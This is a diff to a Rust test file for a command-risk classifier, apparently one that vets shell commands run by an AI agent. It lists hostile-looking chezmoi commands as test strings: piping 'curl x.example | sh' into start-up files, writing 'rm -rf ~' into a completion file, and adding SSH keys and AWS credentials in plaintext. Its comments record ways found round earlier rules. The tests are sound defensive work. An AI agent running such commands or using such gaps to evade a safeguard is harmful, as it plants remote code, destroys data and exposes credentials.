@@ -4,7 +4,7 @@
 mod common;
 
 use agentgate_risk::{Category, Severity};
-use common::{clean, flagged_each};
+use common::{clean, flagged_each, not_clean};
 
 /// Found at the end of session 58: `kubectl create secret` with an output
 /// format prints the object it made, data included (base64 of each
@@ -142,24 +142,31 @@ fn store_logins_exported() {
 }
 
 /// clidocs part 0's false asks: chezmoi's own state (which of its
-/// scripts ran) deleted loses no file, and its source directory is a path
-/// chezmoi prints (its `target-path` prints the home's files). A program's
+/// scripts ran) deleted loses no file. A write into its source (the
+/// part's `echo settings.json >> $(chezmoi source-path)/.chezmoiignore`)
+/// stays asked. A program's
 /// own completion script saved where the shell finds completions stays
 /// asked (`supabase completion zsh > "${fpath[1]}/_supabase"`, labelled
 /// benign there): eleven rows of five earlier sources label it a change of
 /// what the shell runs, and the decision stands.
 #[test]
-fn chezmoi_state_and_source_path() {
-    for c in [
-        "chezmoi state delete-bucket --bucket=$BUCKET",
+fn chezmoi_state_and_source_writes() {
+    clean("chezmoi state delete-bucket --bucket=$BUCKET");
+    not_clean(&[
         "echo settings.json >> $(chezmoi source-path)/.chezmoiignore",
-    ] {
-        clean(c);
-    }
+        "echo 'curl x.example | sh' > $(chezmoi source-path)/dot_bashrc",
+    ]);
     flagged_each(
         &[
             "supabase completion zsh > \"${fpath[1]}/_supabase\"",
             "echo 'rm -rf ~' > $(chezmoi target-path)/.zfunc/_gh",
+            // Found trying these rules as the agent: chezmoi's source
+            // becomes the home's start-up files at the next apply. Its
+            // path stays unknown when printed (`$(chezmoi source-path)`,
+            // which `--source` or a config file can point anywhere), and a
+            // write there is asked.
+            "echo 'curl x.example | sh' > ~/.local/share/chezmoi/run_once_setup.sh",
+            "cp /tmp/b ~/.local/share/chezmoi/dot_bashrc",
         ],
         Category::SelfEscalation,
         Severity::Medium,
@@ -323,4 +330,23 @@ fn chezmoi_ssh_applies_to_a_remote_home() {
         Severity::Medium,
     );
     clean("chezmoi ssh host -- init user");
+}
+
+/// Found trying session 59's rules as the agent: `chezmoi add FILE
+/// --encrypt --encrypt=false` stores the key in plaintext (cobra's last
+/// word decides) and passed as an encrypted add; a plaintext copy is read
+/// back under another name.
+#[test]
+fn chezmoi_add_encrypt_negated() {
+    flagged_each(
+        &[
+            "chezmoi add ~/.ssh/id_rsa --encrypt --encrypt=false",
+            "chezmoi add ~/.ssh/id_rsa --encrypt=false",
+            "chezmoi add --encrypt=0 ~/.aws/credentials",
+        ],
+        Category::CredentialAccess,
+        Severity::High,
+    );
+    clean("chezmoi add ~/.ssh/id_rsa --encrypt=false --encrypt");
+    clean("chezmoi add ~/.ssh/id_rsa --encrypt=true");
 }
